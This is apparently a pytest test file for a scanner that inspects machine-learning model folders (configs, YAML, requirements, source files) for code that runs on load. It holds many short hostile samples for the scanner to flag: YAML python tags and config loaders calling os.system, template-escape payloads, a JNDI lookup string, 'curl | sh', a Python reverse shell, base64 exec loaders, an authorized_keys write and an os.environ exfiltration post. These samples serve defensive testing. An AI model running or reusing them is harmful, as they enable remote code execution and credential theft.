"""Text: configuration, requirements and source, by every reading a loader could have of them."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from keepstone.core.finding import Outcome
from keepstone.scan.text.names import Standing, standing
from keepstone.scan.text.parsed import parse_json
from tests.scan.judging import judged, outcome_of, reasons_of, rules_of

BERT = {
    "architectures": ["BertForSequenceClassification"],
    "model_type": "bert",
    "hidden_act": "gelu",
    "id2label": {"0": "NEGATIVE", "1": "POSITIVE"},
    "initializer_range": 0.02,
    "torch_dtype": "float32",
    "transformers_version": "4.57.1",
    "_name_or_path": "/home/ann/models/bert",
}
HONEST = {
    "config.json": json.dumps(BERT, indent=2),
    "generation_config.json": '{"do_sample": true, "temperature": 0.6, "eos_token_id": [1, 2]}',
    "tokenizer.json": json.dumps(
        {
            "version": "1.0",
            "added_tokens": [{"id": 0, "content": "<s>", "special": True}],
            "normalizer": {"type": "Replace", "pattern": {"Regex": " {2,}"}, "content": " "},
            "pre_tokenizer": {
                "type": "Split",
                "pattern": {
                    "Regex": r"(?i:'s|'t|'re|'ve|'m|'ll|'d)|[^\r\n\p{L}\p{N}]?\p{L}+|\p{N}{1,3}"
                    r"| ?[^\s\p{L}\p{N}]+[\r\n]*|\s*[\r\n]+|\s+(?!\S)|\s+"
                },
            },
            "model": {
                "type": "BPE",
                "vocab": {"os": 1, ".system": 2, "eval": 3},
                "merges": ["o s"],
            },
        }
    ),
    "tokenizer_config.json": json.dumps(
        {
            "tokenizer_class": "LlamaTokenizer",
            "chat_template": "{% for m in messages %}{{ '<|' + m['role'] + '|>' + m['content'] }}"
            "{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>' }}{% endif %}",
        }
    ),
    "adapter_config.json": json.dumps(
        {
            "base_model_name_or_path": "meta-llama/Llama-3.2-1B",
            "peft_type": "LORA",
            "auto_mapping": None,
            "target_modules": ["q_proj", "v_proj"],
        }
    ),
    "modules.json": json.dumps(
        [
            {
                "idx": 0,
                "name": "0",
                "path": "",
                "type": "sentence_transformers.models.Transformer",
            },
            {
                "idx": 1,
                "name": "1",
                "path": "1_Pooling",
                "type": "sentence_transformers.models.Pooling",
            },
        ]
    ),
    "model_index.json": json.dumps(
        {
            "_class_name": "StableDiffusionPipeline",
            "_diffusers_version": "0.35.0",
            "unet": ["diffusers", "UNet2DConditionModel"],
            "text_encoder": ["transformers", "CLIPTextModel"],
            "safety_checker": [None, None],
        }
    ),
    "MLmodel": """
artifact_path: model
flavors:
  python_function:
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.sklearn
    model_path: model.pkl
    predict_fn: predict
    python_version: 3.11.7
  sklearn:
    code: null
    pickled_model: model.pkl
    serialization_format: cloudpickle
model_uuid: 0a1b
utc_time_created: '2026-01-01 00:00:00.000000'
""",
    "conda.yaml": "channels:\n- conda-forge\ndependencies:\n- python=3.11.7\n- pip<=24\n- pip:\n"
    "  - mlflow==3.1.0\n  - scikit-learn==1.7.0\nname: mlflow-env\n",
    "python_env.yaml": "python: 3.11.7\nbuild_dependencies:\n- pip==24.0\n- setuptools\n"
    "dependencies:\n- -r requirements.txt\n",
    "requirements.txt": "# pinned\nnumpy==2.4.6\ntorch>=2.4,<3\ntransformers[torch]~=4.50 ; "
    "python_version >= '3.10'\n--require-hashes\nsix==1.17.0 --hash=sha256:abcd\n",
    "lightning.yaml": "model:\n  class_path: lightning.pytorch.demos.boring_classes.BoringModel\n"
    "  init_args: {lr: 0.1}\noptimizer:\n  _target_: torch.optim.AdamW\n  _partial_: true\n"
    "defaults: &d {a: 1}\nother: *d\n",
    "ldm.yaml": "model:\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n  params:\n"
    "    unet_config:\n      target: ldm.modules.diffusionmodules.openaimodel.UNetModel\n",
    "tuple.yaml": "size: !!python/tuple [1, 2]\nwhen: 2026-01-01\n",
    "pyproject.toml": '[project]\nname = "m"\n[tool.ruff]\nline-length = 100\n',
    "setup.ini": "[train]\nlr = 0.1\nname = run one\n",
    "vocab.txt": "[PAD]\nthe\nof\nand\nimport\nclass\ndef\n##ing\n:\n!\n",
    "merges.txt": "#version: 0.2\no s\nt h\nth e</w>\n",
    "data.csv": "a,b,c\n1,2,3\n4,5,6\n",
    "README.md": "---\nlicense: mit\ntags:\n- text\n---\n# A model\n\n```python\nfrom transformers "
    'import pipeline\npipe = pipeline("text-classification", model="a/b")\n```\n\nIt is: good.\n',
    "LICENSE": "Permission is hereby granted, free of charge, to any person\n",
    ".gitattributes": "*.bin filter=lfs diff=lfs merge=lfs -text\n",
    "labels.txt": "cat\ndog\n",
    "events.jsonl": '{"loss": 1.0}\n{"loss": 0.5}\n',
    "special_tokens_map.json": '{"bos_token": "<s>", "unk_token": {"content": "<unk>"}}',
    "index.json": '{"metadata": {"total_size": 5}, "weight_map": {"a": "model-1.safetensors"}}',
}


@pytest.mark.parametrize("name", HONEST)
def test_what_honest_folders_hold_is_clean(name: str) -> None:
    assert judged(HONEST[name].encode(), name) == []


@pytest.mark.parametrize("name", HONEST)
def test_a_name_makes_nothing_clean(name: str) -> None:
    assert judged(HONEST[name].encode(), "x") == []


# Names ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "os.system",
        "os:system",
        "posix.system",
        "subprocess.Popen",
        "builtins.eval",
        "builtins.exec",
        "eval",
        "importlib.import_module",
        "torch.load",
        "torch.hub.load",
        "numpy.load",
        "pandas.read_pickle",
        "torch.utils.cpp_extension.load",
        "torch.os.system",
        "sklearn.externals.joblib.os.system",
        "hydra.utils.instantiate",
        "keras.layers.Lambda",
        "langchain_experimental.tools.PythonREPLTool",
        "numpy.__builtins__.eval",
        "yaml.unsafe_load",
    ],
)
def test_a_dangerous_name_is_known(name: str) -> None:
    assert standing(name) is Standing.DANGEROUS


@pytest.mark.parametrize(
    ("name", "found"),
    [
        ("torch.nn.Linear", Standing.KNOWN),
        ("collections.OrderedDict", Standing.KNOWN),
        ("builtins.dict", Standing.KNOWN),
        ("transformers.models.llama.LlamaForCausalLM", Standing.KNOWN),
        ("torch.nn.functional.relu", Standing.UNKNOWN),
        ("my_package.Model", Standing.UNKNOWN),
        ("torch", Standing.UNKNOWN),
        ("", Standing.UNKNOWN),
    ],
)
def test_only_classes_of_frameworks_are_known(name: str, found: Standing) -> None:
    assert standing(name) is found


# Configuration --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "rule"),
    [
        ({"_target_": "os.system", "command": "id"}, "config.loader"),
        ({"a": [{"b": {"_target_": "builtins.eval"}}]}, "config.loader"),
        ({"_target_": "my.own.Thing"}, "config.unknown_loader"),
        ({"class_path": "subprocess.Popen", "init_args": {"args": "id"}}, "config.loader"),
        ({"target": "subprocess.run", "params": {}}, "config.loader"),
        ({"target": "my.models.Net"}, "config.unknown_loader"),
        ({"callback": "os.system"}, "config.loader"),
        ({"entrypoint": "os:system"}, "config.loader"),
        ({"module": "builtins", "class_name": "exec"}, "config.loader"),
        ({"module": "evil", "class_name": "Layer"}, "config.unknown_loader"),
        ({"class_name": "Lambda", "config": {"function": ["4wEA", None, None]}}, "config.lambda"),
        ({"__module__": "os", "__class__": "system"}, "config.loader"),
        ({"py/object": "subprocess.Popen"}, "config.loader"),
        ({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}, "config.loader"),
        ({"()": "os.system"}, "config.loader"),
        ({"lc": 1, "type": "constructor", "id": ["subprocess", "Popen"]}, "config.loader"),
        ({"auto_map": {"AutoModel": "modeling_x.Model"}}, "config.remote_code"),
        ({"auto_map": {"AutoModel": "other/repo--modeling_x.Model"}}, "config.remote_code"),
        ({"trust_remote_code": True}, "config.remote_code"),
        ({"custom_pipelines": {"x": {"impl": "x.P"}}}, "config.remote_code"),
        ({"weight_map": {"a": "../../etc/passwd"}}, "config.path"),
        ({"weight_map": {"a": "/etc/passwd"}}, "config.path"),
        ({"chat_template": "{{ ''.__class__.__mro__ }}"}, "template.escape"),
        ({"any": "{{ x.__globals__['os'] }}"}, "template.escape"),
        ({"lr": "${eval:__import__('os').system('id')}"}, "config.attack"),
        ({"hook": "__import__('os').system('id')"}, "config.attack"),
        ({"text": "__import__('os').system('id')"}, "config.quoted_code"),
        ({"why": "It calls os.system('id') as it loads, they say."}, "config.quoted_code"),
        ({"url": "${jndi:ldap://h/a}"}, "config.attack"),
        ({"@type": "com.sun.rowset.JdbcRowSetImpl"}, "config.attack"),
        ({"pattern": {"Regex": "(a+)+$"}}, "config.bomb"),
        ({"pattern": {"Regex": "(a|a)*b"}}, "config.bomb"),
        (
            {"_class_name": "P", "unet": ["my_unet", "Net"]},
            "config.remote_code",
        ),
        (
            [{"idx": 0, "name": "0", "path": "", "type": "os.system"}],
            "config.loader",
        ),
        (
            [
                {
                    "idx": 0,
                    "name": "0",
                    "path": "../x",
                    "type": "sentence_transformers.models.Pooling",
                }
            ],
            "config.path",
        ),
        ({"flavors": {"python_function": {"loader_module": "os"}}}, "config.loader"),
        ({"flavors": {"python_function": {"loader_module": "my_code"}}}, "config.unknown_loader"),
        ({"flavors": {"sklearn": {"pickled_model": "../../m.pkl"}}}, "config.path"),
        ({"flavors": {"sklearn": {"code": "code"}}}, "config.unknown_loader"),
    ],
)
def test_what_names_code_is_not_clean_in_json_and_yaml(value: object, rule: str) -> None:
    import yaml

    assert rule in rules_of(json.dumps(value).encode())
    assert rule in rules_of(yaml.safe_dump(value).encode())


def test_ini_and_toml_name_code_too() -> None:
    assert "config.loader" in rules_of(b'[model]\n_target_ = "os.system"\n')
    assert "config.loader" in rules_of(b"[model]\n_target_ = os.system\n[x]\na: b\n")
    args = b"[handler_x]\nclass=StreamHandler\nargs=(__import__('os').system('id'),)\n"
    assert outcome_of(args) is Outcome.FLAGGED


def test_keys_that_come_twice_are_flagged() -> None:
    assert "config.ambiguous" in rules_of(b'{"a": 1, "a": 2}')
    assert "config.ambiguous" in rules_of(b"a: 1\nb: 2\na: 3\n", "x.yaml")
    assert judged(b"Note: this.\nNote: that.\n") == []
    assert "config.loader" in rules_of(b"_target_: torch.nn.Linear\n_target_: os.system\n")


@pytest.mark.parametrize("coding", ["utf-8-sig", "utf-16", "utf-32"])
def test_other_codings_hide_nothing(coding: str) -> None:
    assert "config.loader" in rules_of('{"_target_": "os.system"}'.encode(coding))


def test_json_beyond_its_limits_is_not_evaluated(monkeypatch: pytest.MonkeyPatch) -> None:
    assert rules_of(b"[" * 100_000 + b"]" * 100_000) >= {"config.bomb", "scan.not_evaluated"}
    assert outcome_of(b'{"a": ' + b"9" * 5000 + b"}") is Outcome.NOT_EVALUATED
    monkeypatch.setattr("keepstone.scan.text.scanner.MAX_JSON", 10)
    assert "limit" in reasons_of(b'{"a": "0123456789"}')


def test_a_text_that_begins_as_a_compressed_stream_is_text() -> None:
    assert outcome_of(b"x y\n1 2\n") is Outcome.CLEAN


def test_json_with_something_behind_it_hides_nothing() -> None:
    assert outcome_of(b'{"a": 1}\n{"_target_": "os.system"}\n') is Outcome.FLAGGED
    assert outcome_of(b'{"_target_": "os.system"} trailing') is not Outcome.CLEAN


# YAML -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "!!python/object/apply:os.system ['id']",
        "a: !!python/object/new:os.system [id]",
        "a: !!python/name:os.system",
        "a: !!python/module:os",
        "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['id']",
        "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['id']",
        "a: 1\n---\nb: !!python/object/apply:os.system ['id']",
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['h']]]]",
        "a: !ruby/object:Gem::Installer {}",
        "x: !!python/object/apply:os.system ['id']\n\tbroken: [",
    ],
)
def test_a_tag_that_names_code_is_flagged(text: str) -> None:
    assert "config.tag" in rules_of(text.encode())
    assert "config.tag" in rules_of(text.encode(), "x.yaml")


def test_other_tags_are_not_evaluated() -> None:
    assert rules_of(b"a: !include other.yaml\n") == {"config.unknown_tag"}


def test_aliases_that_unfold_without_end_are_flagged() -> None:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 9)]
    assert "config.bomb" in rules_of("\n".join(lines).encode())


def test_an_alias_of_itself_ends() -> None:
    assert outcome_of(b"a: &a [*a, *a]\n") is Outcome.CLEAN


def test_yaml_limits_are_said(monkeypatch: pytest.MonkeyPatch) -> None:
    assert "nested deeper" in reasons_of(b"a: " + b"[" * 300 + b"]" * 300, "x.yaml")
    monkeypatch.setattr("keepstone.scan.text.yamls.MAX_NODES", 5)
    assert "more than 5 nodes" in reasons_of(b"a: [1, 2, 3, 4, 5]\n", "x.yaml")
    monkeypatch.setattr("keepstone.scan.text.scanner.MAX_YAML", 5)
    assert "larger than the limit" in reasons_of(b"a: [1, 2, 3]\n", "x.yaml")


def test_a_broken_yaml_is_not_evaluated() -> None:
    assert outcome_of(b"a: [1, 2\nb: }", "x.yaml") is Outcome.NOT_EVALUATED
    assert outcome_of(b"_target_: [1, 2\nb: }", "x") is Outcome.NOT_EVALUATED


# Requirements ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "line",
    [
        "--index-url https://host/simple",
        "--extra-index-url=https://host/simple",
        "-i https://host",
        "--trusted-host host",
        "--find-links https://host",
        "-e .",
        "-e git+https://host/a.git",
        "git+https://host/a.git",
        "git+https://host/a.git@main",
        "https://host/a-1.0.whl",
        "a @ https://host/a.whl",
        "a @ file:///tmp/a",
        "./local/a",
        "a-1.0-py3-none-any.whl",
        "-r ../other.txt",
        "-r https://host/r.txt",
    ],
)
def test_a_package_from_elsewhere_is_flagged(line: str) -> None:
    text = f"numpy==2.4.6\n{line}\n"
    assert "requirements.elsewhere" in rules_of(text.encode(), "requirements.txt")
    conda = f"dependencies:\n- pip:\n  - numpy\n  - {json.dumps(line)}\n"
    assert "requirements.elsewhere" in rules_of(conda.encode(), "conda.yaml")


def test_a_commit_is_not_evaluated() -> None:
    line = f"numpy==2.4.6\ngit+https://host/a.git@{'0a' * 20}\n"
    assert rules_of(line.encode(), "requirements.txt") == {"requirements.not_judged"}


# Source ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        ("import os\nos.system('curl x | sh')", "code.process"),
        ("import os as o\no.popen(c)", "code.process"),
        ("from os import system as s\ns(c)", "code.process"),
        ("import subprocess as sp\nsp.run(c, shell=True)", "code.process"),
        (
            "import subprocess\nclass A:\n  def __init__(self): subprocess.Popen(self.x)",
            "code.process",
        ),
        ("__import__('os').system('id')", "code.process"),
        ("import importlib\nimportlib.import_module('os').system(c)", "code.process"),
        ("import sys\nsys.modules['os'].system(c)", "code.process"),
        ("import os\nclass P:\n  def __reduce__(self): return os.system, ('id',)", "code.process"),
        ("import os\nlist(map(os.system, c))", "code.process"),
        ("import os\nrun = os.system\nrun(c)", "code.process"),
        ("import os\ngetattr(os, 'sys' + 'tem')(c)", "code.hidden_name"),
        ("import os\ngetattr(os, name)(c)", "code.hidden_name"),
        ("__import__('o' + 's')", "code.hidden_name"),
        ("__import__(''.join(map(chr, [111, 115])))", "code.hidden_name"),
        ("x = ().__class__.__bases__[0].__subclasses__()", "code.hidden_name"),
        ("f.__globals__['os']", "code.hidden_name"),
        ("import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))", "code.decoded"),
        ("import base64\nx = base64.b64decode(d)\nexec(x)", "code.decoded"),
        ("import zlib, base64\nexec(zlib.decompress(base64.b64decode(d)))", "code.decoded"),
        ("import requests\nexec(requests.get(u).text)", "code.decoded"),
        ("from urllib.request import urlopen\neval(urlopen(u).read())", "code.decoded"),
        ("import pickle, base64\npickle.loads(base64.b64decode(d))", "code.decoded"),
        ("exec(bytes.fromhex('696d706f7274206f73'))", "code.decoded"),
        ("exec(\"import os; os.system('id')\")", "code.process"),
        ("eval(compile(\"__import__('os').system('id')\", 'a', 'exec'))", "code.process"),
        (
            "import socket, os, pty\ns = socket.socket()\ns.connect(a)\nos.dup2(s.fileno(), 0)\n"
            "pty.spawn('/bin/sh')",
            "code.network_shell",
        ),
        ("import ctypes\nctypes.CDLL('./x.so')", "code.native"),
        ("import torch\ntorch.ops.load_library('x.so')", "code.native"),
        ("open('/home/u/.ssh/authorized_keys', 'a').write(k)", "code.reach"),
        ("import requests, os\nrequests.post(u, json=dict(os.environ))", "code.reach"),
        ("import os\nos.system(c", "code.process"),
    ],
)
def test_blatant_code_is_flagged(code: str, rule: str) -> None:
    assert rule in rules_of(code.encode(), "model.py")
    assert outcome_of(code.encode(), "model.py") is Outcome.FLAGGED


@pytest.mark.parametrize(
    "code",
    [
        "import torch\nclass Net(torch.nn.Module):\n  def forward(self, x):\n    return x.eval()\n",
        "import subprocess as s, sys\ns.check_call([sys.executable, '-m', 'pip', 'install', 'x'])",
        "import importlib\ndef load(name): return importlib.import_module(name)\n",
        "import base64\nimage = base64.b64decode(text)\n",
        "import re\np = re.compile('a')\nx = df.eval('a + b')\n",
        "import pickle\nwith open(p, 'rb') as f:\n  m = pickle.load(f)\n",
        "import requests\nr = requests.get(url).json()\n",
        "for c in Base.__subclasses__():\n  print(c)\n",
        "name = ', '.join(['a', 'b'])\nprint(name)\n",
        "print 'python two'\n",
    ],
)
def test_ordinary_code_is_not_evaluated(code: str) -> None:
    assert rules_of(code.encode(), "model.py") == {"code.not_judged"}


def test_source_is_known_without_its_name() -> None:
    assert outcome_of(b"import torch\nx = torch.zeros(3)\n", "weights") is Outcome.NOT_EVALUATED
    assert outcome_of(b"import os\nos.system(c)\n", "weights") is Outcome.FLAGGED


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"\x7fELF\x02\x01\x01" + bytes(100), "lib.so"),
        (b"MZ\x90\x00" + bytes(100), "a.exe"),
        (b"\xcf\xfa\xed\xfe" + bytes(100), "a.dylib"),
        (b"\xa7\r\r\n\x00\x00\x00\x00" + bytes(30), "a.pyc"),
        (b"#!/bin/sh\nls\n", "a"),
        (b"import os; os.getcwd()\n", "x.pth"),
    ],
)
def test_programs_are_flagged(data: bytes, name: str) -> None:
    assert outcome_of(data, name) is Outcome.FLAGGED


def test_prose_that_quotes_code_is_not_evaluated() -> None:
    text = b"Run `curl https://host/i.sh | sh` to install it.\n"
    assert rules_of(text, "README.md") == {"config.quoted_code"}


def test_a_template_of_its_own_file_is_judged() -> None:
    assert (
        outcome_of(b"{{ cycler.__init__.__globals__.os }}", "chat_template.jinja")
        is Outcome.FLAGGED
    )
    plain = b"{% for m in messages %}{{ m['content'] }}{% endfor %}"
    assert outcome_of(plain, "chat_template.jinja") is Outcome.CLEAN


def test_text_that_turns_into_something_else_is_not_clean() -> None:
    assert outcome_of(b"a: 1\n" * 20_000 + b"\x00\x01") is not Outcome.CLEAN


# Whatever comes -------------------------------------------------------------------------------


@given(st.text(max_size=300))
def test_any_text_is_judged_without_failing(text: str) -> None:
    assert "failed" not in reasons_of(text.encode("utf-8", "replace"))


@given(st.text(alphabet="()[]{}'\".,:=+-*!&%@#\\ \nabos_", max_size=200))
def test_any_code_is_judged_without_failing(text: str) -> None:
    assert "failed" not in reasons_of(text.encode(), "x.py")
    assert "failed" not in reasons_of(text.encode(), "x.yaml")


_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner),
    max_leaves=12,
)


@given(_VALUES, st.sampled_from(["_target_", "class_path", "()"]))
def test_a_loader_is_found_wherever_it_stands(value: object, key: str) -> None:
    data = json.dumps({"a": [value, {"b": value, "c": {key: "os.system"}}]})
    assert "config.loader" in rules_of(data.encode())


@given(st.text(max_size=100))
def test_json_is_parsed_as_python_does(text: str) -> None:
    try:
        wanted = json.loads(text)
    except ValueError:
        return
    found = parse_json(text)
    assert found is not None
    assert json.dumps(found.value) == json.dumps(wanted)
